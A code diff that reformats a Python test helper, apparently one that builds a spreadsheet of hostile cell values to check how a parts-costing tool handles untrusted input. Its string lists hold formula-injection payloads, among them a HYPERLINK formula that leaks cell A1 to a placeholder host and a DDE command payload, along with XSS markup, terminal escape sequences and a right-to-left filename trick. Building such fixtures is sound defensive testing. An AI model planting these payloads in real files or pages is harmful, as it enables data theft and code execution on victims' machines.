@@ -8,14 +8,34 @@ from pathlib import Path
 import openpyxl
 
 FORMULAS = (
-    '=HYPERLINK("http://a.invalid/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "  =1+1",
-    "plate;=1+1", "plate\n=1+1", "'=1+1", "''+1", "＝1+1", "12 V; -20 to 60 °C", "|=1",
-)  # fmt: skip
+    '=HYPERLINK("http://a.invalid/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "plate;=1+1",
+    "plate\n=1+1",
+    "'=1+1",
+    "''+1",
+    "＝1+1",
+    "12 V; -20 to 60 °C",
+    "|=1",
+)
 """Texts that a spreadsheet runs, or may run, when it opens a csv file that holds them unguarded; and harmless ones."""
 MARKUP = (
-    "</script><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<!--<script>", "{{ 7*7 }}{% raw %}",
-    "javascript:alert(1)", "&lt;b&gt;", "'onmouseover='alert(1)", "</title><base href=//a.invalid>", "]]>", "__proto__",
-)  # fmt: skip
+    "</script><script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "<!--<script>",
+    "{{ 7*7 }}{% raw %}",
+    "javascript:alert(1)",
+    "&lt;b&gt;",
+    "'onmouseover='alert(1)",
+    "</title><base href=//a.invalid>",
+    "]]>",
+    "__proto__",
+)
 CONTROLS = ("\x1b[2J\x1b]0;owned\x07", "a\x9b31mred", "\u202egpj.exe", "bell\x07", "\x1b]8;;http://a.invalid\x1b\\x")
 HOSTILE = (*FORMULAS, *MARKUP, *CONTROLS)
 
@@ -47,8 +67,19 @@ def write_hostile(folder: Path) -> Path:
     book = openpyxl.Workbook()
     sheet = book.active
     sheet.title = "=1+1<b>"
-    heads = ["Part number", "Description", "Qty", "Unit price", "Currency", "Cost date", "Supplier", "Commodity",
-             "Owner", "Note", "UoM"]  # fmt: skip
+    heads = [
+        "Part number",
+        "Description",
+        "Qty",
+        "Unit price",
+        "Currency",
+        "Cost date",
+        "Supplier",
+        "Commodity",
+        "Owner",
+        "Note",
+        "UoM",
+    ]
     for c, head in enumerate(heads, 1):
         sheet.cell(1, c, head)
     numbers = []
@@ -56,9 +87,22 @@ def write_hostile(folder: Path) -> Path:
         cell = openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", text)
         number = f"{cell.strip()}" if i % 2 else f"P-{i:03d}"
         numbers.append(number)
-        for c, value in enumerate((number, "dc motor " + cell if i % 3 else cell, 1 + i % 4, 3.5 + i, "EUR",
-                                   f"2019-0{1 + i % 9}-01", cell, ("dc_motor", cell)[i % 5 == 0], cell, cell,
-                                   "pcs"), 1):  # fmt: skip
+        for c, value in enumerate(
+            (
+                number,
+                "dc motor " + cell if i % 3 else cell,
+                1 + i % 4,
+                3.5 + i,
+                "EUR",
+                f"2019-0{1 + i % 9}-01",
+                cell,
+                ("dc_motor", cell)[i % 5 == 0],
+                cell,
+                cell,
+                "pcs",
+            ),
+            1,
+        ):
             place = sheet.cell(2 + i, c, value)
             if isinstance(value, str):
                 place.data_type = "s"  # text, as a hostile file has it, not a formula of our own making
@@ -68,8 +112,24 @@ def write_hostile(folder: Path) -> Path:
         [["part_no", "quote_date", "unit_price", "currency", "supplier", "kind"]]
         + [[n, f"202{i % 5}-03-31", 4 + i, "EUR", HOSTILE[i], "firm"] for i, n in enumerate(numbers)],
     )
-    rows: list[list[object]] = [["decision", "title", "option", "chosen", "element", "kind", "part_no", "qty", "amount",
-                                 "currency", "decided_on", "annual_volume", "change_cost", "note"]]  # fmt: skip
+    rows: list[list[object]] = [
+        [
+            "decision",
+            "title",
+            "option",
+            "chosen",
+            "element",
+            "kind",
+            "part_no",
+            "qty",
+            "amount",
+            "currency",
+            "decided_on",
+            "annual_volume",
+            "change_cost",
+            "note",
+        ]
+    ]
     for i, text in enumerate(HOSTILE):
         common = ["EUR", "2019-06-30", 900, 2000, text]
         rows += [
